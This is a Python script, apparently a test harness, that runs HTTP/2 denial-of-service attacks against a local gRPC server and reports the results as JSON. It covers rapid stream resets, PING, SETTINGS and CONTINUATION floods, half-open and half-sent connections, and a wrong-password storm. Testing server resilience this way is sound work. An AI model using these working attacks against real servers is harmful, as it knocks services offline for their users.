"""Bad callers, one a run, made of an independent HTTP/2 stack (python3-h2 and its hyperframe and hpack):

    http2_attacks.py ATTACK --port PORT --ca FILE [--count N]

Prints what it did as one line of JSON. A connection that the other side has ended is opened again until all was sent; who gives up
for that reason would prove little. `idle_watch` goes on until standard input has another line or ends.
"""
import argparse
import json
import resource
import select
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import hpack
from hyperframe.frame import ContinuationFrame, DataFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame

HOST = "127.0.0.1"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(0).serialize()
LAST_PING = b"all-read"
SIGN_IN = "/rujukan.v1.SessionService/SignIn"
WATCH = "/rujukan.v1.InboxService/WatchInbox"
# What is in flight at a time: no more of it can be lost with a connection that the other side ends.
FRAMES_PER_WRITE = 200
# Of a client that waits for an answer, or for the other side to end a connection.
PATIENCE_SECONDS = 120
# How long bodies are sent; a face that gives requests 30 s would end some of them later.
BODIES_SECONDS = 20
# Streams on one connection, below what any server grants.
STREAMS_PER_CONNECTION = 90


def grpc_message(message):
    return struct.pack(">BI", 0, len(message)) + message


def text_field(number, text):
    return bytes([number << 3 | 2, len(text)]) + text.encode()


def request_headers(path, *more):
    return [(":method", "POST"), (":scheme", "https"), (":path", path), (":authority", "localhost"), ("te", "trailers"),
            ("content-type", "application/grpc"), *more]


def header_block(path):
    """Without the dynamic table, so that it means the same on every stream."""
    encoder = hpack.Encoder()
    encoder.header_table_size = 0
    return encoder.encode(request_headers(path), huffman=False)


class Ended(Exception):
    """The other side has ended the connection."""


class Raw:
    """A connection of TLS on which whole frames are written, whatever the rules of HTTP/2 say."""

    def __init__(self, options):
        context = ssl.create_default_context(cafile=options.ca)
        context.set_alpn_protocols(["h2"])
        try:
            plain = socket.create_connection((HOST, options.port), timeout=PATIENCE_SECONDS)
            self.socket = context.wrap_socket(plain, server_hostname=HOST)
        except OSError as error:
            raise Ended() from error
        self.last_read = b""
        self.write(PREFACE)

    def write(self, octets):
        """Reads, too, what has come, so that neither side waits for the other for ever."""
        self.socket.settimeout(PATIENCE_SECONDS)
        try:
            self.socket.sendall(octets)
            self.read_what_is_there()
        except OSError as error:
            raise Ended() from error

    def read_what_is_there(self):
        while self.socket.pending() or select.select([self.socket], [], [], 0)[0]:
            self.read()

    def read(self):
        octets = self.socket.recv(65536)
        if not octets:
            raise Ended()
        self.last_read = self.last_read[-len(LAST_PING):] + octets

    def wait_until_all_is_taken(self):
        """What lies in the buffers of a connection has cost the other side nothing: waits for the answer of a ping behind it."""
        self.last_read = b""
        self.write(PingFrame(0, opaque_data=LAST_PING).serialize())
        try:
            while LAST_PING not in self.last_read:
                self.read()
        except OSError as error:
            raise Ended() from error


def send_all(options, count, frames_from):
    """Sends `count` pieces; `frames_from(index_on_this_connection)` makes one. How many were sent, over how many connections."""
    sent = connections = 0
    while sent < count:
        try:
            connections += 1
            connection = Raw(options)
            on_this = 0
            while sent < count:
                now = min(FRAMES_PER_WRITE, count - sent)
                octets = b"".join(frames_from(on_this + i) for i in range(now))
                sent, on_this = sent + now, on_this + now
                connection.write(octets)
                connection.wait_until_all_is_taken()
            connection.socket.close()
        except Ended:
            pass
    return {"sent": sent, "connections": connections}


def rapid_resets(options):
    block = header_block(SIGN_IN)
    data = grpc_message(text_field(1, "nobody") + text_field(2, "no such password"))

    def call_and_reset(index):
        stream = 2 * index + 1
        return (HeadersFrame(stream, data=block, flags=["END_HEADERS"]).serialize()
                + DataFrame(stream, data=data, flags=["END_STREAM"]).serialize()
                + RstStreamFrame(stream, error_code=8).serialize())
    return send_all(options, options.count, call_and_reset)


def pings(options):
    return send_all(options, options.count, lambda index: PingFrame(0, opaque_data=struct.pack(">Q", index)).serialize())


def settings(options):
    frame = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize()
    return send_all(options, options.count, lambda index: frame)


def continuation(options):
    """Headers of `count` bytes that never end."""
    piece = 16000
    field = hpack.Encoder().encode([("x-long", "x" * (piece - 100))], huffman=False)
    sent = taken = connections = 0
    while sent < options.count:
        try:
            connections += 1
            connection = Raw(options)
            connection.write(HeadersFrame(1, data=header_block(SIGN_IN)).serialize())
            while sent < options.count:
                frame = ContinuationFrame(1, data=field).serialize()
                sent += len(frame)
                connection.write(frame)
                taken += len(frame)
            connection.socket.close()
        except Ended:
            pass
    return {"sent": sent, "taken": taken, "connections": connections}


def allow_many_sockets(count):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    wanted = count + 100
    if soft < wanted:
        resource.setrlimit(resource.RLIMIT_NOFILE, (wanted, max(wanted, hard)))


def say(**what):
    print(json.dumps(what), flush=True)


def wait_for_ends(sockets):
    """Until the other side has ended all, or patience; how many it has ended, and when the last."""
    begin, open_sockets, last = time.monotonic(), set(sockets), 0.0
    poll = select.poll()
    by_number = {s.fileno(): s for s in sockets}
    for number in by_number:
        poll.register(number, select.POLLIN)
    while open_sockets and time.monotonic() - begin < PATIENCE_SECONDS:
        for number, _ in poll.poll(1000):
            try:
                ended = not by_number[number].recv(4096)
            except BlockingIOError:
                ended = False
            except OSError:
                ended = True
            if ended:
                poll.unregister(number)
                open_sockets.discard(by_number[number])
                last = time.monotonic() - begin
    return {"ended": len(sockets) - len(open_sockets), "seconds": round(last, 1)}


def half_open(options):
    """Connections that say nothing, or the beginning of a hello of TLS."""
    allow_many_sockets(options.count)
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
    sockets = []
    for index in range(options.count):
        try:
            one = socket.create_connection((HOST, options.port), timeout=PATIENCE_SECONDS)
            if index % 2:
                one.sendall(hello)
            one.setblocking(False)
            sockets.append(one)
        except OSError:
            pass
    say(ready=True)
    return {"opened": len(sockets), **wait_for_ends(sockets)}


def half_sent(options):
    """Requests that stop within their message, as many on a connection as it allows; ended when each of them is."""
    open_streams = 0
    connections = []
    while open_streams < options.count:
        connection = H2(options)
        streams = min(STREAMS_PER_CONNECTION, options.count - open_streams)
        for _ in range(streams):
            stream = connection.h2.get_next_available_stream_id()
            connection.h2.send_headers(stream, request_headers(SIGN_IN))
            connection.h2.send_data(stream, grpc_message(text_field(1, "nobody"))[:-3])
        connection.flush()
        connection.waiting = streams
        connections.append(connection)
        open_streams += streams
    say(ready=True)
    begin = time.monotonic()
    for connection in connections:
        while connection.waiting > 0 and time.monotonic() - begin < PATIENCE_SECONDS:
            for event in connection.events():
                if isinstance(event, (h2.events.StreamReset, h2.events.StreamEnded)):
                    connection.waiting -= 1
                elif isinstance(event, h2.events.ConnectionTerminated):
                    connection.waiting = 0
    left = sum(connection.waiting for connection in connections)
    return {"opened": open_streams, "ended": open_streams - left, "seconds": round(time.monotonic() - begin, 1)}


def half_sent_bodies(options):
    """Requests of nearly 2 MB that stop before their end, `count` bytes altogether: as much as is taken within some seconds."""
    body, rest = 2 << 20, {}
    streams = options.count // body
    connections = [H2(options) for _ in range(-(-streams // STREAMS_PER_CONNECTION))]
    for index in range(streams):
        connection = connections[index % len(connections)]
        stream = connection.h2.get_next_available_stream_id()
        connection.h2.send_headers(stream, request_headers(SIGN_IN))
        connection.h2.send_data(stream, struct.pack(">BI", 0, body))
        rest[connection, stream] = body - 1
    sent, begin = 0, time.monotonic()
    while rest and time.monotonic() - begin < BODIES_SECONDS:
        for (connection, stream), left in list(rest.items()):
            try:
                now = min(connection.h2.local_flow_control_window(stream), connection.h2.max_outbound_frame_size, left)
                if now > 0:
                    connection.h2.send_data(stream, b"x" * now)
                    sent += now
                rest[connection, stream] = left - now
                if left == now:
                    del rest[connection, stream]
            except h2.exceptions.ProtocolError:
                # Ended by the other side.
                del rest[connection, stream]
        for connection in connections:
            connection.flush()
            while select.select([connection.socket], [], [], 0.01)[0] or connection.socket.pending():
                if any(isinstance(event, h2.events.ConnectionTerminated) for event in connection.events()):
                    rest = {key: left for key, left in rest.items() if key[0] is not connection}
                    break
    return {"begun": streams, "sent_mb": sent >> 20}


class H2:
    """A connection of python3-h2 that follows the rules."""

    def __init__(self, options):
        context = ssl.create_default_context(cafile=options.ca)
        context.set_alpn_protocols(["h2"])
        plain = socket.create_connection((HOST, options.port), timeout=PATIENCE_SECONDS)
        self.socket = context.wrap_socket(plain, server_hostname=HOST)
        self.socket.settimeout(1)
        self.h2 = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
        self.h2.initiate_connection()
        self.waiting = 0
        self.flush()

    def flush(self):
        self.socket.sendall(self.h2.data_to_send())

    def events(self):
        """What has come within a second; ConnectionTerminated when the other side has hung up."""
        try:
            octets = self.socket.recv(65536)
        except TimeoutError:
            return []
        except OSError:
            octets = b""
        if not octets:
            return [h2.events.ConnectionTerminated()]
        events = self.h2.receive_data(octets)
        self.flush()
        return events


def sign_ins(options):
    """A storm of wrong passwords, all at once on a few connections; the codes with which they were answered."""
    codes = {}
    left = options.count
    while left > 0:
        connection = H2(options)
        streams = min(STREAMS_PER_CONNECTION, left)
        left -= streams
        for index in range(streams):
            stream = connection.h2.get_next_available_stream_id()
            connection.h2.send_headers(stream, request_headers(SIGN_IN))
            message = text_field(1, f"nobody.{left + index}") + text_field(2, "no such password")
            connection.h2.send_data(stream, grpc_message(message), end_stream=True)
        connection.flush()
        connection.waiting = streams
        begin = time.monotonic()
        while connection.waiting > 0 and time.monotonic() - begin < PATIENCE_SECONDS:
            for event in connection.events():
                headers = getattr(event, "headers", None) or []
                for name, value in headers:
                    if name in ("grpc-status", b"grpc-status"):
                        code = value if isinstance(value, str) else value.decode()
                        codes[code] = codes.get(code, 0) + 1
                if isinstance(event, (h2.events.StreamReset, h2.events.StreamEnded)):
                    connection.waiting -= 1
                elif isinstance(event, h2.events.ConnectionTerminated):
                    connection.waiting = 0
        connection.socket.close()
    return {"sent": options.count, "grpc_status": codes}


def idle_watch(options):
    """A client that watches an inbox (the session's token and the unit come on standard input) and says nothing more but what it is
    asked: no ping of its own, no window. Prints a line for each message."""
    token, unit = sys.stdin.readline().split()
    connection = H2(options)
    stream = connection.h2.get_next_available_stream_id()
    connection.h2.send_headers(stream, request_headers(WATCH, ("authorization", f"Bearer {token}")))
    connection.h2.send_data(stream, grpc_message(text_field(1, unit)), end_stream=True)
    connection.flush()
    messages = 0
    while not select.select([sys.stdin], [], [], 0)[0]:
        try:
            octets = connection.socket.recv(65536)
        except TimeoutError:
            continue
        for event in connection.h2.receive_data(octets):
            if isinstance(event, h2.events.DataReceived):
                messages += 1
                # A heartbeat is no message at all; an event is.
                say(message=messages, event=len(event.data) > len(grpc_message(b"")))
            elif isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset, h2.events.ConnectionTerminated)):
                return {"ended": type(event).__name__, "messages": messages}
        connection.flush()
        if not octets:
            return {"ended": "connection", "messages": messages}
    return {"ended": False, "messages": messages}


ATTACKS = {attack.__name__: attack for attack in
           (rapid_resets, pings, settings, continuation, half_open, half_sent, half_sent_bodies, sign_ins, idle_watch)}


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--ca", required=True)
    parser.add_argument("--count", type=int, default=1)
    options = parser.parse_args()
    say(done=True, **ATTACKS[options.attack](options))


if __name__ == "__main__":
    main()
